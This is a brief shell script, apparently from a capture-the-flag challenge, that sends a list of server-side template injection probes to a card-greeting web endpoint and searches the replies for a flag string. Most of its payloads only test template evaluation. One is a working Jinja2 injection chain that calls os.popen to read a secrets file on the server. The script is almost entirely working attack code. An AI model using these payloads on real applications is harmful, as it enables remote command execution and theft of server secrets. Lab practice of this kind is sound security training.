#-- what works on other engines
for greeting in '{{7*7}}' '${7*7}' '<%= 7*7 %>' '{{config}}' '{{ cycler.__init__.__globals__.os.popen("cat /srv/secrets/flag").read() }}' '{0}' '{settings}'; do
    curl -s http://app:8080/card -d sender=Ann -d to=Bo --data-urlencode "greeting=$greeting"
done | grep -o 'flag{[0-9a-f]*}' || echo none
